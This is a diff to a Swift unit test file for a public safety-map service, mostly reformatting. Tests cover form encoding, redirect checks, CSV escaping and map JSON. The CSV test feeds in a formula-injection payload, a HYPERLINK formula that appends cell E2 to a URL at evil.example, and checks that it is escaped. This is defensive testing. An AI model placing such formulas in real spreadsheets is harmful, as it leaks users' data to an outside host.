@@ -30,8 +30,10 @@ struct PublicFrontUnitTests {
       }
       _ = FormEncoding.parse(String(decoding: bytes, as: UTF8.self))
     }
-    #expect(FormEncoding.encode([("next", "/lists?kind=r4&x=ệ"), ("gone", nil)])
-      == "next=%2Flists%3Fkind%3Dr4%26x%3D%E1%BB%87")
+    #expect(
+      FormEncoding.encode([("next", "/lists?kind=r4&x=ệ"), ("gone", nil)])
+        == "next=%2Flists%3Fkind%3Dr4%26x%3D%E1%BB%87"
+    )
   }
 
   @Test("next stays on this site: no scheme, no //, no backslash, no control character")
@@ -49,8 +51,13 @@ struct PublicFrontUnitTests {
   @Test("CSV cells that a spreadsheet would run are written as text; numbers stay numbers")
   func csvCells() throws {
     let hostile = #"=HYPERLINK("http://evil.example/?"&E2,"Bấm vào")"#
-    let record = String(decoding: try CSVRecord.encode([hostile, "-1+2", "@SUM(A1)", "+84912345678",
-      "-12,5", "\tx", "Công ty An Phát", "3"]), as: UTF8.self)
+    let record = String(
+      decoding: try CSVRecord.encode([
+        hostile, "-1+2", "@SUM(A1)", "+84912345678",
+        "-12,5", "\tx", "Công ty An Phát", "3",
+      ]),
+      as: UTF8.self
+    )
     #expect(record.hasPrefix(#""'=HYPERLINK(""http://evil.example/?""&E2,""Bấm vào"")""#))
     #expect(record.contains("'-1+2"))
     #expect(record.contains("'@SUM(A1)"))
@@ -60,7 +67,8 @@ struct PublicFrontUnitTests {
     #expect(record.contains(",Công ty An Phát,3"))
   }
 
-  static func map(points: Int, province: String = "74") -> Safemap_Reporting_V1_GetPublicMapResponse {
+  static func map(points: Int, province: String = "74") -> Safemap_Reporting_V1_GetPublicMapResponse
+  {
     let levels: [Safemap_Common_V1_MapLevel] = [.safe, .atRisk, .unsafe, .overdue, .notAssessed]
     return .with {
       $0.points = (0..<points).map { i in
@@ -74,7 +82,11 @@ struct PublicFrontUnitTests {
           }
         }
       }
-      $0.districtCounts = [.with { $0.districtCode = "718"; $0.districtName = "Thủ Dầu Một" }]
+      $0.districtCounts = [
+        .with {
+          $0.districtCode = "718"; $0.districtName = "Thủ Dầu Một"
+        }
+      ]
       $0.asOfTime = Google_Protobuf_Timestamp(date: Date())
     }
   }
@@ -87,7 +99,9 @@ struct PublicFrontUnitTests {
       case number(Double), text(String)
       init(from decoder: any Swift.Decoder) throws {
         let c = try decoder.singleValueContainer()
-        if let n = try? c.decode(Double.self) { self = .number(n) } else {
+        if let n = try? c.decode(Double.self) {
+          self = .number(n)
+        } else {
           self = .text(try c.decode(String.self))
         }
       }
@@ -98,7 +112,10 @@ struct PublicFrontUnitTests {
   @Test("a level filter is cut from the province's one map, as valid JSON")
   func levelCut() throws {
     let map = try PublicMap(response: Self.map(points: 50), province: "74")
-    let all = try JSONDecoder().decode(Decoded.self, from: Data(map.json(levels: []).readableBytesView))
+    let all = try JSONDecoder().decode(
+      Decoded.self,
+      from: Data(map.json(levels: []).readableBytesView)
+    )
     #expect(all.points.count == 50 && all.province == "74")
     #expect(all.districts == ["718": "Thủ Dầu Một"])
     let unsafe = Safemap_Common_V1_MapLevel.unsafe.rawValue
@@ -110,8 +127,10 @@ struct PublicFrontUnitTests {
     #expect(cut.points.count == 20)
     #expect(Set(cut.points.compactMap { $0[2].text }) == ["SAFE", "UNSAFE"])
     let empty = try PublicMap(response: Self.map(points: 0), province: "74")
-    #expect(try JSONDecoder().decode(Decoded.self, from: Data(empty.json(levels: []).readableBytesView))
-      .points.isEmpty)
+    #expect(
+      try JSONDecoder().decode(Decoded.self, from: Data(empty.json(levels: []).readableBytesView))
+        .points.isEmpty
+    )
     #expect(try map.body(levels: [], gzip: true) == map.gzipped)
   }
 
